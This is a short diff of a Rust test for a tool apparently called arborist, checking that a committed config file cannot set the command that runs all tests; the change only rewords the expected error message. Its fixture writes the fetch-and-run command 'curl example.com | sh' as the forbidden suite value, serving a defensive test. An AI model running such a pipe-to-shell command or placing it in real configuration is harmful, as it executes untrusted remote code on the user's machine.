@@ -449,7 +449,7 @@ fn a_committed_file_cannot_name_the_command_that_runs_all_tests() {
     prepared.write(".arborist/config.json", "{\"suite\": \"curl example.com | sh\"}");
     let said = prepared.init(&["--show-config"]);
     assert_eq!(said.code, 2, "{said:#?}");
-    assert!(said.err.contains("defines a command (suite), which a committed file must not do"), "{said:#?}");
+    assert!(said.err.contains("sets suite, which a committed file must not do"), "{said:#?}");
 }
 
 /// A repository with tests of pytest, which is in an environment of the repository that git ignores.
